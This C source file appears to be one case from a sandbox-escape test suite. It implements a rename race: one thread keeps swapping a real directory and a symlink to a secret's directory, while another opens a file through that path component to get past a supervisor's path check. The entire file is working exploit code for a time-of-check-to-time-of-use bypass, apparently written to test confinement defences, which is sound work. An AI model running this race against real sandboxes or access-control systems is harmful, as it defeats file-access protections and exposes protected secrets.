/* e0202-rename-race - rename race on a directory component.
 *
 * Attack: in the cwd, "e0202-d" is a real directory holding a decoy file
 * named like the secret, and "e0202-s" a symbolic link to the secret's
 * directory.  One thread swaps the two names again and again with
 * renameat2(RENAME_EXCHANGE) while another opens "e0202-d/NAME": the
 * supervisor may check the path while e0202-d is the real directory and
 * the kernel look it up when e0202-d is the link.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components); Watson 2007.
 * Usage: e0202-rename-race SECRET */
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

static volatile int stop;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, "e0202-d", AT_FDCWD, "e0202-s", RENAME_EXCHANGE);
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0202-rename-race SECRET");
	char dir[PATH_MAX], base[PATH_MAX], decoy[PATH_MAX * 2], path[PATH_MAX * 2];
	snprintf(dir, sizeof dir, "%s", argv[1]);
	snprintf(base, sizeof base, "%s", argv[1]);
	snprintf(decoy, sizeof decoy, "e0202-d/%s", basename(base));
	mkdir("e0202-d", 0755);
	unlink("e0202-s");
	if (symlink(dirname(dir), "e0202-s") < 0)
		esc_die("symlink");
	FILE *f = fopen(decoy, "w");
	if (!f)
		esc_die(decoy);
	fputs("decoy\n", f);
	fclose(f);
	snprintf(path, sizeof path, "%s", decoy);
	pthread_t t;
	if (pthread_create(&t, NULL, swapper, NULL) != 0)
		esc_die("pthread_create");
	esc_race_open("open through the swapping directory", path, "decoy\n");
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
